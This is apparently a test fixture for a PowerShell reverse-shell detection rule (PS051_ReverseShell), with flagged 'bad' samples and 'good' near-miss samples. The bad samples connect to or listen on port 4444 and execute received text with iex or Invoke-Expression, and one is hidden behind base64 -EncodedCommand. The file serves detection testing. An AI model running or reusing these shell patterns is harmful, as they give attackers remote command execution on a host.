# file: bad1.ps1
# form: aliased, variable
# ruleid: PS051_ReverseShell
$client = New-Object System.Net.Sockets.TCPClient('host.example', 4444)
$stream = $client.GetStream()
while (($count = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
    $text = [Text.Encoding]::ASCII.GetString($bytes, 0, $count)
    $answer = iex $text
}

# file: bad2.ps1
# form: aliased, variable
# ruleid: PS051_ReverseShell
$client = [Net.Sockets.TcpClient]::new('host.example', 4444)
$stream = $client.GetStream()
while (($count = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {
    $text = [Text.Encoding]::ASCII.GetString($bytes, 0, $count)
    $answer = iex $text
}

# file: bad3.ps1
# form: variable
$type = 'System.Net.Sockets.TcpListener'
# ruleid: PS051_ReverseShell
$listener = New-Object $type 4444
$stream = $listener.AcceptTcpClient().GetStream()
while ($true) {
    $line = (New-Object IO.StreamReader $stream).ReadLine()
    Invoke-Expression $line
}

# file: bad4.ps1
# form: aliased, splatted, variable
$make = @{ TypeName = 'Net.Sockets.TcpClient'; ArgumentList = 'host.example', 4444 }
# ruleid: PS051_ReverseShell
$client = New-Object @make
$reader = New-Object IO.StreamReader $client.GetStream()
while ($true) { iex $reader.ReadLine() }

# file: bad5.ps1
# form: wrapped
# ruleid: PS051_ReverseShell
powershell -NoProfile -EncodedCommand JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsAZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAAoACcAaABvAHMAdAAuAGUAeABhAG0AcABsAGUAJwAsACAANAA0ADQANAApAAoAJABzAHQAcgBlAGEAbQAgAD0AIAAkAGMAbABpAGUAbgB0AC4ARwBlAHQAUwB0AHIAZQBhAG0AKAApAAoAdwBoAGkAbABlACAAKAAoACQAYwBvAHUAbgB0ACAAPQAgACQAcwB0AHIAZQBhAG0ALgBSAGUAYQBkACgAJABiAHkAdABlAHMALAAgADAALAAgACQAYgB5AHQAZQBzAC4ATABlAG4AZwB0AGgAKQApACAALQBuAGUAIAAwACkAIAB7AAoAIAAgACAAIAAkAHQAZQB4AHQAIAA9ACAAWwBUAGUAeAB0AC4ARQBuAGMAbwBkAGkAbgBnAF0AOgA6AEEAUwBDAEkASQAuAEcAZQB0AFMAdAByAGkAbgBnACgAJABiAHkAdABlAHMALAAgADAALAAgACQAYwBvAHUAbgB0ACkACgAgACAAIAAgACQAYQBuAHMAdwBlAHIAIAA9ACAAaQBlAHgAIAAkAHQAZQB4AHQACgB9AA==

# file: good1.ps1
# form: near miss
# ok: PS051_ReverseShell
Enter-PSSession -HostName server.example.org

# file: good2.ps1
# form: near miss
# ok: PS051_ReverseShell
(New-Object Net.Sockets.TcpClient).Connect('host.example', 443)

# file: good3.ps1
# form: near miss
# ok: PS051_ReverseShell
while ($true) { $stream.Read($bytes, 0, 10) }
